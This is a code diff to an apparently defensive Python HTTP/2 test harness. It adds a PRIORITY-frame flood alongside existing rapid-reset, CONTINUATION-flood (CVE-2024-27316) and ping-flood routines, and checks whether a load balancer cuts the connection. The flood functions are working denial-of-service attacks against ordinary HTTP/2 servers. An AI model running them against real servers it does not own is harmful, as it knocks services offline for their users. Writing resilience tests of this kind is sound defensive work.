@@ -11,7 +11,7 @@ import h2.config
 import h2.connection
 import h2.events
 import hpack
-from hyperframe.frame import ContinuationFrame, HeadersFrame
+from hyperframe.frame import ContinuationFrame, HeadersFrame, PriorityFrame
 
 ENHANCE_YOUR_CALM = 0xB
 
@@ -30,7 +30,7 @@ class H2Client:
     """A blocking HTTP/2 client on one connection (enough to open, read and reset streams by hand)."""
 
     def __init__(self, port: int, *, checked: bool = True) -> None:
-        """`checked=False`: h2 sends headers as given, malformed ones too (it checks and tidies by default)."""
+        """`checked=False`: h2 sends headers as given, malformed too (it checks and tidies by default)."""
         self.sock = tls_socket(port)
         self.conn = h2.connection.H2Connection(
             h2.config.H2Configuration(
@@ -149,9 +149,7 @@ def rapid_reset(port: int, *, max_streams: int = 20_000, max_seconds: float = 10
         client.close()
 
 
-def continuation_flood(
-    port: int, *, max_frames: int = 100_000, max_seconds: float = 10.0
-) -> AttackResult:
+def continuation_flood(port: int, *, max_frames: int = 100_000, max_seconds: float = 10.0) -> AttackResult:
     """A header block that never ends: HEADERS without END_HEADERS, then CONTINUATION (CVE-2024-27316)."""
     client = H2Client(port)
     started = time.monotonic()
@@ -196,6 +194,33 @@ def ping_flood(port: int, *, max_pings: int = 5_000, max_seconds: float = 10.0) 
             except (OSError, h2.exceptions.ProtocolError):
                 break
             sent += 1
+        while not client.closed and client.goaway is None and time.monotonic() - started < max_seconds + 5:
+            try:
+                if not client.pump(timeout=1.0) and not client.closed:
+                    break
+            except h2.exceptions.ProtocolError:
+                break
+        return AttackResult(
+            client.closed or client.goaway is not None, client.goaway, sent, time.monotonic() - started
+        )
+    finally:
+        client.close()
+
+
+def priority_flood(port: int, *, max_frames: int = 20_000, max_seconds: float = 10.0) -> AttackResult:
+    """PRIORITY frames, which ask nothing of the server, as fast as the socket takes them."""
+    client = H2Client(port)
+    started = time.monotonic()
+    frame = PriorityFrame(1, depends_on=0, stream_weight=16).serialize()
+    batch = 20
+    sent = 0
+    try:
+        while sent < max_frames and time.monotonic() - started < max_seconds:
+            try:
+                client.sock.sendall(frame * batch)
+            except OSError:
+                break  # the LB closed the connection
+            sent += batch
         while not client.closed and client.goaway is None and time.monotonic() - started < max_seconds + 5:
             try:
                 if not client.pump(timeout=1.0) and not client.closed:
